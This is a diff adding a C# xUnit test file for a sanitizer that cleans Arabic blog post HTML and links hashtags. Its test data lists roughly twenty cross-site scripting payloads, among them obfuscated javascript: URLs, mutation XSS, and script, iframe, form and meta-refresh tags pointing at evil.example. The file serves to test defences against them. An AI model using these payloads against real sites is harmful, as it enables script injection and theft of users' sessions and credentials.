@@ -1,0 +1,90 @@
+using AngleSharp.Html.Parser;
+using Qalam.Content;
+
+namespace Qalam.Tests.Content;
+
+public sealed class PostBodyTests
+{
+    // Each body carries an attack; what comes out must keep the text and lose the attack.
+    public static TheoryData<string, string> Attacks => new()
+    {
+        { "<p>مرحبا</p><script>alert('x')</script>", "script tag" },
+        { "<p>مرحبا<SCRIPT SRC=//evil.example/x.js></SCRIPT></p>", "upper-case script with src" },
+        { "<p onclick=\"alert(1)\">مرحبا</p>", "event handler attribute" },
+        { "<img src=\"/media/a.png\" onerror=\"alert(1)\" alt=\"صورة\"><p>مرحبا</p>", "onerror on an image" },
+        { "<p><a href=\"javascript:alert(1)\">مرحبا</a></p>", "javascript: URL" },
+        { "<p><a href=\"JaVaScRiPt:alert(1)\">مرحبا</a></p>", "mixed-case javascript: URL" },
+        { "<p><a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">مرحبا</a></p>", "entity-encoded javascript: URL" },
+        { "<p><a href=\"&#x6A;avascript&colon;alert(1)\">مرحبا</a></p>", "hex entities and &colon;" },
+        { "<p><a href=\" java\tscript:alert(1)\">مرحبا</a></p>", "javascript: URL with a tab and a space" },
+        { "<p><a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">مرحبا</a></p>", "data: URL in a link" },
+        { "<p>مرحبا</p><img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "data: URL in an image" },
+        { "<p>مرحبا</p><iframe src=\"https://evil.example/\"></iframe>", "iframe" },
+        { "<p>مرحبا</p><object data=\"x.swf\"></object><embed src=\"x.swf\">", "object and embed" },
+        { "<p style=\"width: expression(alert(1))\">مرحبا</p>", "style attribute with expression()" },
+        { "<p style=\"background:url(javascript:alert(1))\">مرحبا</p>", "style attribute with url(javascript:)" },
+        { "<style>body{background:url(javascript:alert(1))}</style><p>مرحبا</p>", "style tag" },
+        { "<p>مرحبا</p><form action=\"https://evil.example/\"><input name=\"password\"></form>", "form" },
+        { "<svg><script>alert(1)</script></svg><p>مرحبا</p>", "script inside svg" },
+        { "<p>مرحبا</p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "mutation XSS through math and style" },
+        { "<p>مرحبا</p><base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">", "base and meta refresh" },
+    };
+
+    [Theory]
+    [MemberData(nameof(Attacks))]
+    public void Prepare_removes_the_attack_and_keeps_the_text(string body, string attack)
+    {
+        var html = PostBody.Prepare(body).Html;
+        var doc = new HtmlParser().ParseDocument($"<body>{html}</body>");
+        Assert.Contains("مرحبا", doc.Body!.TextContent);
+        Assert.Empty(doc.QuerySelectorAll("script, style, iframe, object, embed, form, input, base, meta, link"));
+        Assert.All(doc.All, e =>
+        {
+            Assert.DoesNotContain(e.Attributes, a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
+            Assert.Null(e.GetAttribute("style"));
+            foreach (var name in new[] { "href", "src", "action", "data", "formaction" })
+            {
+                if (e.GetAttribute(name) is not { } url) continue;
+                var scheme = url.Trim().Split(':', 2)[0].ToLowerInvariant();
+                Assert.True(!url.Contains(':', StringComparison.Ordinal) || scheme is "http" or "https" or "mailto" or "tel", $"{attack}: kept {name}=\"{url}\"");
+            }
+        });
+    }
+
+    [Fact]
+    public void Prepare_keeps_ordinary_formatting_direction_and_safe_links()
+    {
+        var body = "<h2 dir=\"rtl\">عنوان</h2><p>نص <strong>مهم</strong> و<a href=\"https://example.org/a?b=1\">رابط</a>.</p><blockquote><p>اقتباس</p></blockquote><ul><li>بند</li></ul><p lang=\"en\" dir=\"ltr\">English</p>";
+        var html = PostBody.Prepare(body).Html;
+        Assert.Contains("<h2 dir=\"rtl\">عنوان</h2>", html);
+        Assert.Contains("<strong>مهم</strong>", html);
+        Assert.Contains("href=\"https://example.org/a?b=1\"", html);
+        Assert.Contains("<blockquote><p>اقتباس</p></blockquote>", html);
+        Assert.Contains("<p lang=\"en\" dir=\"ltr\">English</p>", html);
+    }
+
+    [Theory]
+    [InlineData("<p>ندعم #المؤسسة_الليبية_للتقنية اليوم</p>", "المؤسسة_الليبية_للتقنية", "المؤسسة-الليبية-للتقنية")]
+    [InlineData("<p>#ليبيا_الرقمية</p>", "ليبيا_الرقمية", "ليبيا-الرقمية")]
+    [InlineData("<p>وسم بالإنجليزية #OpenData هنا</p>", "OpenData", "opendata")]
+    public void Hashtags_become_links_to_their_tag(string body, string hashtag, string slug)
+    {
+        var prepared = PostBody.Prepare(body);
+        Assert.Equal([hashtag], prepared.Hashtags);
+        var link = new HtmlParser().ParseDocument($"<body>{prepared.Html}</body>").QuerySelector("a.hashtag")!;
+        Assert.Equal("#" + hashtag, link.TextContent);
+        Assert.Equal("/tag/" + Uri.EscapeDataString(slug), link.GetAttribute("href"));
+    }
+
+    [Theory]
+    [InlineData("<p>رقم الغرفة 5#</p>")]
+    [InlineData("<p><a href=\"https://example.org/#section\">رابط</a></p>")]
+    [InlineData("<pre><code>#include &lt;stdio.h&gt;</code></pre>")]
+    [InlineData("<p>&#1605;</p>")]
+    public void Text_that_only_looks_like_a_hashtag_is_left_alone(string body)
+    {
+        var prepared = PostBody.Prepare(body);
+        Assert.Empty(prepared.Hashtags);
+        Assert.DoesNotContain("class=\"hashtag\"", prepared.Html);
+    }
+}
